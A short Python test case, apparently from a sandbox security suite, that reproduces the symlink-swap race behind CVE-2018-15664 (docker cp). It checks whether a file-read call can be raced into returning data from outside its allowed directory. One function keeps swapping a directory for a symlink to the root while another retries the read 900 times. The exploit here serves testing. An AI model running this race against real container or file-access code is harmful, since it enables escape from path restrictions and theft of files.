# title: swap a whole directory for a symlink between the check and the use
# reference: CVE-2018-15664 (docker cp), CVE-2021-30465
# real: harmless: null
# weakened: decided on what was opened
# proof: canary

import contextlib
import os


def arrange(place):
    inside, aside = place.open / "d", place.open / "aside"
    inside.mkdir()
    (inside / "secret").write_text("good")

    def swap():
        os.rename(inside, aside)
        inside.symlink_to(place.root)
        inside.unlink()
        os.rename(aside, inside)

    return place.meanwhile(swap)


def attack(worker):
    for _ in range(900):
        with contextlib.suppress(Exception):  # whatever is said of a name that flickers
            found = worker.call("fs.read", worker.open + "/d/secret")
            if found not in ("good", None):
                return found
